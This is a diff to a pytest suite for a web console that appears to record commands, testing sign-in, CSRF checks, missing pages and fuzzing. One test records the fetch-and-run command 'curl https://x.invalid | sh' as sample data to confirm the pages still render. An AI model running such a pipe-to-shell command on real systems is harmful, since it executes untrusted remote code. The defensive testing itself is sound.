@@ -6,6 +6,7 @@ import sys
 from urllib.parse import quote, urlencode
 
 import pytest
+from ground import examples
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
@@ -18,24 +19,24 @@ def paths(table):
     return [re.sub(r"\{\w+\}", "x", path) for path in table]
 
 
-@pytest.mark.parametrize("path", [*paths(PAGES), "/feed"])
-def test_a_stranger_sees_no_page(stranger, path):
-    answer = stranger.request("GET", f"/at/guessed{path}")
-    assert answer.status == 401
-    assert "checkrein open" in answer.text
+def test_a_stranger_sees_no_page(stranger):
+    for path in [*paths(PAGES), "/feed"]:
+        answer = stranger.request("GET", f"/at/guessed{path}")
+        assert answer.status == 401, path
+        assert "checkrein open" in answer.text, path
 
 
-@pytest.mark.parametrize("path", paths(ACTIONS))
-def test_a_stranger_changes_nothing(stranger, path):
-    assert stranger.request("POST", f"/at/guessed{path}", "csrf=x").status == 401
+def test_a_stranger_changes_nothing(stranger):
+    for path in paths(ACTIONS):
+        assert stranger.request("POST", f"/at/guessed{path}", "csrf=x").status == 401, path
 
 
-@pytest.mark.parametrize("path", paths(ACTIONS))
 @pytest.mark.parametrize("token", ["", "wrong"])
-def test_nothing_changes_without_the_token_only_our_own_pages_hold(visitor, path, token):
-    answer = visitor.post(path, {"csrf": token})
-    assert answer.status == 403
-    assert "not sent from this console" in answer.text
+def test_nothing_changes_without_the_token_only_our_own_pages_hold(visitor, token):
+    for path in paths(ACTIONS):
+        answer = visitor.post(path, {"csrf": token})
+        assert answer.status == 403, path
+        assert "not sent from this console" in answer.text, path
 
 
 def test_the_token_of_one_session_is_no_good_in_another(visitor, console):
@@ -101,33 +102,23 @@ def test_who_signs_out_is_out(visitor):
     assert visitor.get("/").status == 401
 
 
-@pytest.mark.parametrize(
-    "path",
-    [
-        "/",
-        "/calls",
-        "/trust",
-        "/policy",
-        "/sessions",
-        "/health",
-        "/servers",
-        "/servers/clients",
-        "/servers/secrets",
-        "/runs",
-    ],
-)
-def test_every_page_opens_with_nothing_recorded_and_with_something(visitor, work, path):
-    assert visitor.get(path).status == 200
+OPENED = "/ /calls /trust /policy /sessions /health /servers /servers/clients /servers/secrets /runs".split()
+
+
+def test_every_page_opens_with_nothing_recorded_and_with_something(visitor, work):
+    for path in OPENED:
+        assert visitor.get(path).status == 200, path
     work(3)
     work(command="curl https://x.invalid | sh")
-    answer = visitor.get(path)
-    assert answer.status == 200
-    assert "<main" in answer.text
+    for path in OPENED:
+        answer = visitor.get(path)
+        assert answer.status == 200, path
+        assert "<main" in answer.text, path
 
 
-@pytest.mark.parametrize("path", ["/nothing", "/calls/0/1/2", "/inbox/card/nobody", "/policy/rule/none"])
-def test_what_is_not_there_is_said(visitor, path):
-    assert visitor.get(path).status == 404
+def test_what_is_not_there_is_said(visitor):
+    for path in ("/nothing", "/calls/0/1/2", "/inbox/card/nobody", "/policy/rule/none"):
+        assert visitor.get(path).status == 404, path
 
 
 def test_nothing_is_asked_of_other_machines(visitor, work):
@@ -207,7 +198,7 @@ HEADERS = st.dictionaries(
     token=st.booleans(),
 )
 @settings(
-    max_examples=250,
+    max_examples=examples(250),
     suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
 )
 def test_nothing_sent_to_it_breaks_it(visitor, work, ask, method, path, name, query, form, headers, token):
